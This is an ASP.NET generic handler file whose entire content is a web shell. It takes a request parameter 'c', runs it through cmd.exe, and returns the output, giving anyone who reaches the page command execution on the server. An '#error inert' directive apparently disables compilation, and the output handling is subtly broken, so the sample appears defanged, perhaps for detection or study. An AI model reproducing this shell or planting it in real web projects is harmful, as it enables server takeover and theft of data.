<%@ WebHandler Language="C#" Class="H" %>
#error inert
using System; using System.Web; using System.Diagnostics;
public class H : IHttpHandler { public void ProcessRequest(HttpContext context) { string c = context.Request["c"]; Process p = new Process(); p.StartInfo.FileName = @"c:\windows\system32\cmd.exe"; p.StartInfo.Arguments = "/c " + c; p.Start(); context.Response.Write(p.StandardOutput.ReadToEnd()); } public bool IsReusable { get { return false; } } }